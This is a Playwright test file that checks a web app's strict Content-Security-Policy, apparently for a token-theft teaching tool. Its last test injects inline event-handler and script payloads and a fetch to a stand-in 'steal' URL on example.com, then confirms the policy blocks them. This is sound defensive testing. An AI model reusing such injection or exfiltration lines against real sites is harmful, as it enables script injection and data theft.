// The Content-Security-Policy of the built site (vite.config.ts adds it to dist/index.html): it is
// strict, the whole app runs under it without a single violation, no request leaves the origin,
// and it really does stop what it is there to stop (an injected inline handler, an off-site fetch).
import type { Page } from '@playwright/test';
import { expect, freshStart, region, test } from './fixtures';

interface Violation {
  directive: string;
  blocked: string;
  source: string;
}

/** Collects every CSP violation the page reports (event and console), across navigations. */
async function watchViolations(page: Page): Promise<Violation[]> {
  const violations: Violation[] = [];
  await page.exposeBinding('__reportCspViolation', (_source, v: Violation) => void violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      const report = (window as unknown as { __reportCspViolation(v: unknown): void }).__reportCspViolation;
      report({ directive: e.effectiveDirective, blocked: e.blockedURI, source: `${e.sourceFile}:${e.lineNumber}` });
    });
  });
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text()))
      violations.push({ directive: 'console', blocked: message.text(), source: message.location().url });
  });
  return violations;
}

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name!.toLowerCase(), values]),
  );
}

test.describe('Content-Security-Policy', () => {
  test('the built page declares a strict policy before any script, and has no inline script', async ({ request }) => {
    const html = await (await request.get('/')).text();
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/i.exec(html);
    expect(meta, 'a CSP meta tag in dist/index.html').not.toBeNull();
    expect(html.indexOf(meta![0])).toBeLessThan(html.search(/<script|<link rel="(stylesheet|modulepreload)"/));
    const policy = directives(meta![1]!);
    expect(policy.get('script-src')).toEqual(["'self'"]);
    expect(policy.get('style-src')).toEqual(["'self'"]);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'none'"]);
    expect(policy.get('form-action')).toEqual(["'none'"]);
    expect(policy.get('default-src')).toEqual(["'self'"]);
    expect(meta![1]).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes|\*/);
    // Every script is a file from this origin: no inline code, no inline event handler.
    // (Relative URLs: the build works under any path, vite.config.ts `base`.)
    for (const tag of html.match(/<script\b[^>]*>/gi) ?? []) expect(tag).toMatch(/\ssrc="(?:\.\/|\/(?!\/))[^"]+"/);
    expect(html).not.toMatch(/\son[a-z]+=/i);
    // The host's headers (dist/_headers) send the same policy, plus what only a header can say.
    const headers = await (await request.get('/_headers')).text();
    expect(headers).toContain(`/*\n  Content-Security-Policy: ${meta![1]}; frame-ancestors 'none'\n`);
    expect(headers).toContain('\n  X-Content-Type-Options: nosniff\n');
    expect(headers).toContain('\n  Referrer-Policy: no-referrer\n');
  });

  test('a tour of every view raises no violation and sends nothing off the origin', async ({ page, offsite }) => {
    test.setTimeout(120_000);
    const violations = await watchViolations(page);
    await freshStart(page);
    const client = region(page, 'Client');
    await client.getByRole('button', { name: 'Log in' }).click();
    await region(page, 'Attacker').getByRole('button', { name: 'Steal both' }).click();
    await page.getByRole('button', { name: '+1 hour' }).click();
    await client.getByRole('button', { name: 'AT#1' }).first().click();
    await expect(page.getByRole('region', { name: /Token inspector/ })).toBeVisible();
    await page.getByRole('tab', { name: 'Token timeline' }).click();
    await expect(page.getByRole('tabpanel')).toContainText('AT#1');
    await page.getByRole('tab', { name: 'Sequence diagram' }).click();
    await page.getByRole('button', { name: 'Settings' }).click();
    await expect(page.getByRole('dialog', { name: 'Settings' })).toBeVisible();
    await page.keyboard.press('Escape');
    await page.keyboard.press('?');
    await expect(page.getByRole('dialog', { name: 'Help' })).toBeVisible();
    await page.keyboard.press('Escape');
    await page.keyboard.press('t'); // the theme switch

    const modes = page.getByRole('navigation', { name: 'Mode' });
    await modes.getByRole('button', { name: 'Lessons' }).click();
    await page.waitForLoadState('networkidle');
    await modes.getByRole('button', { name: 'Compare' }).click();
    await page.waitForLoadState('networkidle');
    // The trade-off sweep runs the core in a Web Worker (worker-src), when compare offers it.
    const sweep = page.getByRole('button', { name: /Run sweep/ });
    if (await sweep.count()) {
      await sweep.first().click();
      await expect(page.getByRole('status').filter({ hasText: /sweep/i }).or(page.locator('svg')).first()).toBeVisible();
      await page.waitForTimeout(1500);
    }
    await modes.getByRole('button', { name: 'Sandbox' }).click();
    await expect(region(page, 'Client')).toBeVisible();
    await page.reload();
    await expect(region(page, 'Client')).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(violations).toEqual([]);
    expect(offsite).toEqual([]);
  });

  test('the policy blocks an injected inline handler and an off-site fetch', async ({ page, baseURL }) => {
    // A safety net: nothing may reach the network outside the origin, whatever happens below.
    const origin = new URL(baseURL!).origin;
    await page.route(
      (url) => url.origin !== origin,
      (route) => route.abort(),
    );
    const violations = await watchViolations(page);
    await freshStart(page);
    await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img id="bait" src="data:," onerror="window.pwned = 1" onload="window.pwned = 1">');
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 2';
      document.body.append(script);
    });
    const fetched = await page.evaluate(() =>
      fetch('https://example.com/steal?t=1').then(
        () => 'sent',
        (error: unknown) => `refused: ${String(error)}`,
      ),
    );
    expect(fetched).toMatch(/^refused/);
    await expect
      .poll(() => violations.map((v) => v.directive))
      .toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem', 'connect-src']));
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    // The app is untouched by the attempt.
    await region(page, 'Client').getByRole('button', { name: 'Log in' }).click();
    await expect(region(page, 'Client').getByRole('button', { name: 'AT#1' })).toBeVisible();
  });
});
